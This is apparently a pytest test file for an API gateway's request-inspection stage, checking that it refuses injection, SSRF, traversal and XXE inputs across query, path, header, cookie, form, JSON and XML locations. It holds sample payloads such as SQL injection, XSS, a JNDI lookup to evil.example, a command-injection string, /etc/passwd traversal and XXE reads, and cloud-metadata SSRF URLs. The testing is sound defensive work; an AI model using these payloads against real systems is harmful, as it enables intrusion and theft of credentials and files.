"""The inspect stage: injection, SSRF and path tricks in request values.

Every detector is tried in every place it reads (path segments, query
names and values, configured headers, cookies, form fields, JSON strings
and member names) and must refuse with 403 and its own reason code,
naming the location and the detector and never the value. Lookalikes
that are ordinary text must pass. XML bodies are read whole, for XXE
alone. Then: narrowing by a contract's schema, allow entries, log mode,
weak findings adding up, the one-line `apiward proxy --inspect`, a
reload that changes the block, and events that carry no more of a
payload than their excerpt.

Every attack carries a sentinel, which no problem document and no event
may contain."""

import json
import os
import urllib.parse

import pytest

from harness import assert_problem, echo_handler, free_port, wait_for

SENTINEL = "Zq9SENTINELx7"
JSON = [("Content-Type", "application/json")]
FORM = [("Content-Type", "application/x-www-form-urlencoded")]

# One attack per detector, each ending in the sentinel where the
# grammar allows it.
ATTACKS = {
    "sqli": "1' union select password from users-- " + SENTINEL,
    "xss": "<script>alert('" + SENTINEL + "')</script>",
    "cmdi": "x; uname -a #" + SENTINEL,
    "template": "${jndi:ldap://evil.example/" + SENTINEL + "}",
    "traversal": "../../../../etc/passwd?" + SENTINEL,
    "ldap": "*)(uid=*))(|(uid=" + SENTINEL,
    "ssrf": "http://169.254.169.254/latest/" + SENTINEL,
    "crlf": "x\r\nSet-Cookie: session=" + SENTINEL,
}

# In a path a '/' would end the segment (and %2F is refused first).
PATH_XSS = "<svg onload=alert('" + SENTINEL + "')>"

BENIGN = [
    "O'Brien",
    "Select Medical Center",
    "Please select the items you want and drop the rest; or order by "
    "phone",
    "https://www.example.com/about?lang=en",
    "Tom & Jerry <3",
    "50% off, today only",
]


def q(s):
    return urllib.parse.quote(s, safe="")


def routes(**extra):
    route = {"name": "api", "path": "/", "prefix": True, "upstream": "demo"}
    route.update(extra)
    return [route,
            {"name": "health", "path": "/health", "upstream": "demo",
             "inspect": "off"}]


def start(gateways, upstreams, tmp_path, inspect=None, route=None,
          **more):
    up = upstreams(echo_handler)
    events = tmp_path / "events.log"
    kw = dict(routes=routes(**(route or {})), events={"file": str(events)})
    if inspect is not None:
        kw["inspect"] = inspect
    kw.update(more)
    gw = gateways([up.addr], **kw)
    gw.events_path = str(events)
    return gw, up


@pytest.fixture
def env(gateways, upstreams, tmp_path):
    return start(gateways, upstreams, tmp_path, inspect={"mode": "block"})


def read_events(gw):
    try:
        with open(gw.events_path) as f:
            return [json.loads(x) for x in f if x.strip()]
    except OSError:
        return []


def finding_events(gw, n=1):
    return wait_for(lambda: [e for e in read_events(gw)
                             if e["event"]["action"] == "inspect.finding"]
                    if len([e for e in read_events(gw)
                            if e["event"]["action"] == "inspect.finding"])
                    >= n else None, 3, what="%d inspect events" % n)


def send(gw, method, target, headers=None, body=None):
    with gw.client() as c:
        c.request(method, target, headers or [], body)
        return c.read_response()


def refused(resp, detector, location):
    doc = assert_problem(resp, 403, "inspect." + detector)
    assert doc["detector"] == detector, doc
    assert doc["location"] == location, doc
    assert SENTINEL.encode() not in resp.body, resp.body
    return doc


@pytest.mark.parametrize("detector", sorted(ATTACKS))
def test_query_values(env, detector):
    gw, up = env
    refused(gw.get("/search?x=1&q=" + q(ATTACKS[detector])), detector,
            "query:q")
    assert up.count() == 0


@pytest.mark.parametrize("detector", ["sqli", "xss", "cmdi", "template",
                                      "ldap", "ssrf", "traversal", "crlf"])
def test_form_fields(env, detector):
    gw, up = env
    body = ("a=1&comment=" + q(ATTACKS[detector])).encode()
    refused(send(gw, "POST", "/post", FORM, body), detector, "form:comment")
    assert up.count() == 0


@pytest.mark.parametrize("detector", ["sqli", "xss", "cmdi", "template",
                                      "ldap", "ssrf", "crlf"])
def test_json_strings(env, detector):
    gw, up = env
    doc = {"user": {"tags": ["ok", ATTACKS[detector]]}}
    refused(send(gw, "POST", "/post", JSON, json.dumps(doc).encode()),
            detector, "json:/user/tags/1")
    assert up.count() == 0


def test_json_traversal_and_nosql(env):
    gw, up = env
    doc = {"file": "../../../../etc/shadow"}
    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()),
            "traversal", "json:/file")
    doc = {"login": {"user": "admin", "password": {"$ne": SENTINEL}}}
    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()),
            "nosql", "json:/login/password/$ne")
    refused(gw.get("/p?password%5B%24ne%5D=" + SENTINEL), "nosql",
            "query:password[$ne]")
    assert up.count() == 0


@pytest.mark.parametrize("detector", ["sqli", "xss", "template", "cmdi",
                                      "traversal", "ldap"])
def test_headers(env, detector):
    gw, up = env
    value = ATTACKS[detector]
    refused(gw.get("/", headers=[("User-Agent", value)]), detector,
            "header:user-agent")
    refused(gw.get("/", headers=[("Referer", "https://a.example/?q=" +
                                  q(value))]), detector, "header:referer")
    # A field not configured is not read.
    assert gw.get("/", headers=[("X-Other", value)]).status == 200


def test_referer_urls_are_not_ssrf(env):
    gw, up = env
    for url in ("http://10.0.0.5/app/page", "http://localhost:3000/"):
        assert gw.get("/", headers=[("Referer", url)]).status == 200


def test_chunked_json_body(env):
    gw, up = env
    body = json.dumps({"note": ATTACKS["template"]}).encode()
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7])
                      for i in range(0, len(body), 7)) + b"0\r\n\r\n"
    with gw.client() as c:
        c.send(b"POST /p HTTP/1.1\r\nHost: x\r\nContent-Type: "
               b"application/json\r\nTransfer-Encoding: chunked\r\n\r\n" +
               chunks)
        resp = c.read_response()
    refused(resp, "template", "json:/note")
    assert up.count() == 0


@pytest.mark.parametrize("detector", ["sqli", "xss", "template",
                                      "traversal", "cmdi", "ldap"])
def test_cookies(env, detector):
    gw, up = env
    resp = gw.get("/", headers=[("Cookie", "a=1; prefs=" +
                                 q(ATTACKS[detector]))])
    refused(resp, detector, "cookie:prefs")


@pytest.mark.parametrize("detector,segment", [
    ("traversal", "..%252f..%252f..%252fetc%252fpasswd"),
    ("sqli", q("1' or '1'='1")),
    ("xss", q(PATH_XSS)),
    ("template", q("{{7*7}}")),
])
def test_path_segments(env, detector, segment):
    gw, up = env
    refused(gw.get("/files/" + segment + "/x"), detector, "path:2")
    assert up.count() == 0


def test_secret_paths_span_segments(env):
    gw, up = env
    refused(gw.get("/static/.ssh/id_rsa"), "traversal", "path")
    refused(gw.get("/app/.git/config"), "traversal", "path")
    assert gw.get("/api/v1/users/42/orders").status == 200
    assert up.count() == 1


def test_double_encoding(env):
    gw, up = env
    refused(gw.get("/s?q=" + q(q("' union select 1,2--"))), "sqli",
            "query:q")
    refused(gw.get("/s?q=" + q("&lt;script&gt;alert(1)&lt;/script&gt;")),
            "xss", "query:q")


@pytest.mark.parametrize("value", BENIGN)
def test_benign_lookalikes_pass(env, value):
    gw, up = env
    assert gw.get("/s?q=" + q(value)).status == 200
    doc = {"name": value, "bio": value}
    resp = send(gw, "POST", "/p", JSON, json.dumps(doc).encode())
    assert resp.status == 200, resp
    assert json.loads(up.last().body) == doc
    resp = send(gw, "POST", "/p", FORM, ("c=" + q(value)).encode())
    assert resp.status == 200, resp


def test_apostrophe_in_json_name(env):
    gw, up = env
    doc = {"O'Brien": "Conan O'Brien", "url": "https://example.com/x"}
    resp = send(gw, "POST", "/p", JSON, json.dumps(doc).encode())
    assert resp.status == 200, resp


def test_route_off_and_other_bodies(env):
    gw, up = env
    assert gw.get("/health?q=" + q(ATTACKS["sqli"])).status == 200
    resp = send(gw, "POST", "/p", [("Content-Type", "text/plain")],
                ATTACKS["sqli"].encode())
    assert resp.status == 200, resp


def test_malformed_json_refused(env):
    gw, up = env
    resp = send(gw, "POST", "/p", JSON, b'{"a": ')
    assert_problem(resp, 400, "json.syntax")
    assert up.count() == 0


def test_events_hold_no_more_than_the_excerpt(env):
    gw, up = env
    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
    # The sentinel lies past the 32 bytes an excerpt may show.
    refused(gw.get("/a/" + q("<svg onload=alert(1)> " + "a" * 40 +
                             SENTINEL)), "xss", "path:2")
    evs = finding_events(gw, 2)
    for e in evs:
        line = json.dumps(e)
        assert SENTINEL not in line, line
        aw = e["apiward"]
        assert aw["outcome"] == "denied"
        assert aw["score"] >= 50
        assert len(aw["excerpt"]) <= 32 * 4
        assert e["rule"]["id"]
    sqli = [e for e in evs if e["apiward"]["detector"] == "sqli"][0]
    assert sqli["apiward"]["location"] == "query:q"
    assert sqli["event"]["reason"] == "inspect.sqli"
    entry = [e for e in gw.wait_access_entries(2)
             if e.get("reason") == "inspect.sqli"][0]
    assert entry["stage"] == "inspect", entry


def test_allow_entries(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={
        "allow": [{"location": "query:q", "detectors": ["xss"]},
                  {"location": "json:/bio"},
                  {"location": "header:Referer", "detectors": ["sqli"]},
                  {"location": "path:3"},
                  {"location": "form:comment"},
                  {"location": "cookie:prefs", "detectors": ["xss"]}]})
    assert gw.get("/s?q=" + q(ATTACKS["xss"])).status == 200
    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
    refused(gw.get("/s?other=" + q(ATTACKS["xss"])), "xss", "query:other")
    doc = {"bio": {"text": ATTACKS["sqli"]}, "name": "x"}
    assert send(gw, "POST", "/p", JSON,
                json.dumps(doc).encode()).status == 200
    doc = {"bio2": ATTACKS["sqli"]}
    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "sqli",
            "json:/bio2")
    assert gw.get("/", headers=[("Referer", ATTACKS["sqli"])]).status == 200
    assert gw.get("/a/b/" + q(PATH_XSS)).status == 200
    refused(gw.get("/a/" + q(PATH_XSS) + "/c"), "xss", "path:2")
    assert send(gw, "POST", "/p", FORM,
                ("comment=" + q(ATTACKS["cmdi"])).encode()).status == 200
    assert gw.get("/", headers=[("Cookie", "prefs=" + q(ATTACKS["xss"]))]
                  ).status == 200


def test_log_mode(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={"mode": "log"})
    resp = gw.get("/s?q=" + q(ATTACKS["sqli"]))
    assert resp.status == 200, resp
    assert up.count() == 1
    e = finding_events(gw)[0]
    assert e["apiward"]["outcome"] == "monitored"
    assert e["apiward"]["location"] == "query:q"
    assert SENTINEL not in json.dumps(e)
    entry = gw.wait_access_entries(1)[-1]
    assert entry["status"] == 200
    assert entry["inspect"] == "inspect.sqli", entry
    assert entry["inspect_location"] == "query:q", entry


def test_weak_findings_add_up(gateways, upstreams, tmp_path):
    # With a threshold of 150 one finding passes and two refuse.
    gw, up = start(gateways, upstreams, tmp_path, inspect={"threshold": 150})
    assert gw.get("/s?a=" + q(ATTACKS["sqli"])).status == 200
    resp = gw.get("/s?a=" + q(ATTACKS["sqli"]) + "&b=" +
                  q(ATTACKS["xss"]))
    assert_problem(resp, 403, "inspect.sqli")
    evs = finding_events(gw, 3)
    assert {e["apiward"]["outcome"] for e in evs} == {"monitored",
                                                      "denied"}


def test_too_many_values(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={"max_values": 5})
    assert gw.get("/s?a=1&b=2").status == 200
    resp = gw.get("/s?" + "&".join("p%d=x" % i for i in range(6)))
    assert_problem(resp, 403, "inspect.too_many_values")


def test_detector_subset_and_route_override(gateways, upstreams,
                                            tmp_path):
    gw, up = start(gateways, upstreams, tmp_path,
                   inspect={"detectors": ["sqli"]},
                   route={"inspect": {"mode": "log"}})
    assert gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200
    e = finding_events(gw)[0]
    assert e["apiward"]["detector"] == "sqli"
    assert gw.get("/s?q=" + q(ATTACKS["xss"])).status == 200
    assert len(finding_events(gw)) == 1


def test_ssrf_parameters_and_pointers(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={
        "detectors": ["sqli"],
        "ssrf": {"parameters": ["callback"], "pointers": ["/webhook/url"],
                 "internal_names": ["*.corp.example"],
                 "schemes": ["https"]}})
    refused(gw.get("/s?callback=" + q("http://127.0.0.1:6379/")), "ssrf",
            "query:callback")
    refused(gw.get("/s?callback=" + q("https://db.corp.example/")), "ssrf",
            "query:callback")
    refused(gw.get("/s?callback=" + q("http://www.example.com/")), "ssrf",
            "query:callback")
    assert gw.get("/s?callback=" + q("https://www.example.com/")
                  ).status == 200
    # ssrf is not among the detectors: other values are not read for it.
    assert gw.get("/s?next=" + q("http://127.0.0.1/")).status == 200
    doc = {"webhook": {"url": "http://[::ffff:169.254.169.254]/"}}
    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "ssrf",
            "json:/webhook/url")


def test_reload_changes_the_block(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={"mode": "block"})
    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
    cfg = dict(gw.config)
    cfg["inspect"] = {"mode": "log"}
    gw.reload(cfg)
    wait_for(lambda: gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200, 5,
             what="the reloaded inspect block")
    cfg["inspect"] = {"mode": "block", "detectors": ["xss"]}
    gw.reload(cfg)
    wait_for(lambda: gw.get("/s?q=" + q(ATTACKS["xss"])).status == 403, 5,
             what="the second reload")
    assert gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200


def test_bad_configuration_names_the_key(gateways, tmp_path, apiward_bin):
    import subprocess
    bad = tmp_path / "bad.yaml"
    bad.write_text("""
upstreams: {demo: {servers: ["127.0.0.1:1"]}}
inspect:
  mode: maybe
  detectors: [sqli, rce]
  decode_rounds: 9
  allow: [{location: "body:x"}]
routes: [{name: a, path: /, upstream: demo, authz: {public: true}}]
""")
    res = subprocess.run([apiward_bin, "check", "-c", str(bad)],
                         capture_output=True, text=True)
    assert res.returncode == 1
    err = res.stdout + res.stderr
    for key in ("inspect.mode", "inspect.detectors", "inspect.decode_rounds",
                "inspect.allow[0].location"):
        assert key in err, err


def proxy_inspect(gateways, upstreams):
    """`apiward proxy --inspect` in front of an echoing backend: the
    gateway and the backend."""
    up = upstreams(echo_handler)
    port = free_port()
    return gateways(args=["proxy", "--listen", "127.0.0.1:%d" % port,
                          "--to", "http://%s" % up.addr, "--inspect"],
                    port=port), up


def test_proxy_inspect_flag(gateways, upstreams):
    gw, up = proxy_inspect(gateways, upstreams)
    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
    doc = {"a": ATTACKS["xss"]}
    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "xss",
            "json:/a")
    assert gw.get("/s?q=" + q("O'Brien")).status == 200
    assert up.count() == 1


NARROW = {
    "openapi": "3.0.3",
    "info": {"title": "narrow", "version": "1"},
    "paths": {"/orders": {"post": {
        "operationId": "add_order",
        "requestBody": {"required": True, "content": {
            "application/json": {"schema": {
                "type": "object",
                "properties": {
                    "id": {"type": "string", "format": "uuid"},
                    "qty": {"type": "integer"},
                    "when": {"type": "string", "format": "date-time"},
                    "kind": {"type": "string",
                             "enum": ["plain", "' or '1'='1"]},
                    "callback": {"type": "string", "format": "uri"},
                    "note": {"type": "string"}}}}}},
        "responses": {"200": {"description": "ok"}}}}},
}


def test_contract_narrows_by_schema(gateways, upstreams, tmp_path):
    doc = tmp_path / "narrow.json"
    doc.write_text(json.dumps(NARROW))
    gw, up = start(gateways, upstreams, tmp_path,
                   inspect={"detectors": ["sqli", "xss"]},
                   route={"contract": "narrow"},
                   contracts=[{"name": "narrow", "openapi": str(doc)}])
    good = {"id": "abac4018-5a38-466c-ab7f-361908afeab6", "qty": 3,
            "when": "2024-05-01T10:00:00Z", "kind": "' or '1'='1",
            "callback": "https://hooks.example.com/x", "note": "O'Brien"}
    resp = send(gw, "POST", "/orders", JSON, json.dumps(good).encode())
    assert resp.status == 200, resp
    assert json.loads(up.last().body) == good
    # A free string is inspected in the contract's one pass.
    bad = dict(good, note=ATTACKS["sqli"])
    refused(send(gw, "POST", "/orders", JSON, json.dumps(bad).encode()),
            "sqli", "json:/note")
    # format: uri means SSRF checks, though ssrf is not a detector here.
    bad = dict(good, callback="http://169.254.169.254/latest/meta-data/")
    refused(send(gw, "POST", "/orders", JSON, json.dumps(bad).encode()),
            "ssrf", "json:/callback")
    # The schema refuses what does not fit it before inspection.
    bad = dict(good, id=ATTACKS["sqli"])
    assert_problem(send(gw, "POST", "/orders", JSON,
                        json.dumps(bad).encode()), 422,
                   "contract.invalid_body")
    assert up.count() == 1


# XML external entities: in XML bodies, read whole, and in fields.
XXE = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
       '"file:///etc/passwd?' + SENTINEL + '">]><r>&x;</r>')
XML = [("Content-Type", "application/xml")]

# Markup the other detectors would flag if they read XML bodies, in
# documents XXE finds nothing in.
BENIGN_XML = [
    '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/'
    '2003/05/soap-envelope"><soap:Body><q>1\' or \'1\'=\'1</q><s><![CDATA['
    '<script>alert(1)</script>]]></s></soap:Body></soap:Envelope>',
    '<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//'
    'DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="../../etc/x">'
    '<text>x; cat /etc/passwd</text></a></svg>',
]


@pytest.mark.parametrize("ctype", ["application/xml", "text/xml",
                                   "application/soap+xml; charset=utf-8",
                                   "IMAGE/SVG+XML"])
def test_xml_bodies(env, ctype):
    gw, up = env
    refused(send(gw, "POST", "/p", [("Content-Type", ctype)], XXE.encode()),
            "xxe", "xml")
    assert up.count() == 0


@pytest.mark.parametrize("body", [
    '<!DOCTYPE r SYSTEM "http://169.254.169.254/' + SENTINEL + '"><r/>',
    '<!DOCTYPE r [<!ENTITY a "' + SENTINEL + '"><!ENTITY b "&a;&a;&a;&a;">'
    ']><r>&b;</r>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:'
    '///etc/passwd" parse="text"/>' + SENTINEL + '</r>',
])
def test_xml_body_rules(env, body):
    gw, up = env
    refused(send(gw, "POST", "/p", XML, body.encode()), "xxe", "xml")
    assert up.count() == 0


def test_chunked_xml_body(env):
    gw, up = env
    body = XXE.encode()
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 9]), body[i:i + 9])
                      for i in range(0, len(body), 9)) + b"0\r\n\r\n"
    with gw.client() as c:
        c.send(b"POST /p HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\n"
               b"Transfer-Encoding: chunked\r\n\r\n" + chunks)
        resp = c.read_response()
    refused(resp, "xxe", "xml")
    assert up.count() == 0


@pytest.mark.parametrize("body", BENIGN_XML)
def test_benign_xml_passes(env, body):
    gw, up = env
    resp = send(gw, "POST", "/p", XML, body.encode())
    assert resp.status == 200, resp
    assert up.last().body == body.encode()


def test_xml_in_fields(env):
    gw, up = env
    refused(send(gw, "POST", "/p", JSON, json.dumps({"doc": XXE}).encode()),
            "xxe", "json:/doc")
    refused(send(gw, "POST", "/p", FORM, ("doc=" + q(XXE)).encode()), "xxe",
            "form:doc")
    refused(gw.get("/s?doc=" + q(XXE)), "xxe", "query:doc")
    # In a field the other detectors read the markup too: the SVG's
    # "../../" and "; cat /etc/passwd" are refused there.
    resp = send(gw, "POST", "/p", JSON,
                json.dumps({"doc": BENIGN_XML[1]}).encode())
    assert resp.status == 403, resp
    assert send(gw, "POST", "/p", JSON, json.dumps(
        {"doc": "<!DOCTYPE html><p>DOCTYPE and ENTITY</p>"}).encode()
    ).status == 200
    assert up.count() == 1


def test_xml_log_mode(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={"mode": "log"})
    resp = send(gw, "POST", "/p", XML, XXE.encode())
    assert resp.status == 200, resp
    assert up.last().body == XXE.encode()
    e = finding_events(gw)[0]
    assert e["event"]["reason"] == "inspect.xxe"
    assert e["apiward"]["outcome"] == "monitored"
    assert e["apiward"]["detector"] == "xxe"
    assert e["apiward"]["location"] == "xml"
    assert e["rule"]["id"] == "external_entity"
    assert SENTINEL not in json.dumps(e)
    entry = gw.wait_access_entries(1)[-1]
    assert entry["inspect"] == "inspect.xxe", entry
    assert entry["inspect_location"] == "xml", entry


def test_xml_refused_event(env):
    gw, up = env
    refused(send(gw, "POST", "/p", XML, XXE.encode()), "xxe", "xml")
    e = finding_events(gw)[0]
    assert e["event"]["reason"] == "inspect.xxe"
    assert e["apiward"]["outcome"] == "denied"
    assert SENTINEL not in json.dumps(e)
    entry = [x for x in gw.wait_access_entries(1)
             if x.get("reason") == "inspect.xxe"][0]
    assert entry["stage"] == "inspect", entry


def test_xml_allow_and_detector_set(gateways, upstreams, tmp_path):
    gw, up = start(gateways, upstreams, tmp_path, inspect={
        "allow": [{"location": "xml", "detectors": ["xxe"]}]})
    assert send(gw, "POST", "/p", XML, XXE.encode()).status == 200
    refused(send(gw, "POST", "/p", JSON, json.dumps({"d": XXE}).encode()),
            "xxe", "json:/d")
    # Without xxe among the detectors an XML body is not read.
    cfg = dict(gw.config)
    cfg["inspect"] = {"detectors": ["sqli", "xss"]}
    gw.reload(cfg)
    wait_for(lambda: send(gw, "POST", "/p", JSON, json.dumps(
        {"d": XXE}).encode()).status == 200, 5, what="the reloaded block")
    assert send(gw, "POST", "/p", XML, XXE.encode()).status == 200


def test_proxy_inspect_flag_reads_xml(gateways, upstreams):
    gw, up = proxy_inspect(gateways, upstreams)
    refused(send(gw, "POST", "/p", XML, XXE.encode()), "xxe", "xml")
    assert send(gw, "POST", "/p", XML, BENIGN_XML[0].encode()).status == 200
    assert up.count() == 1
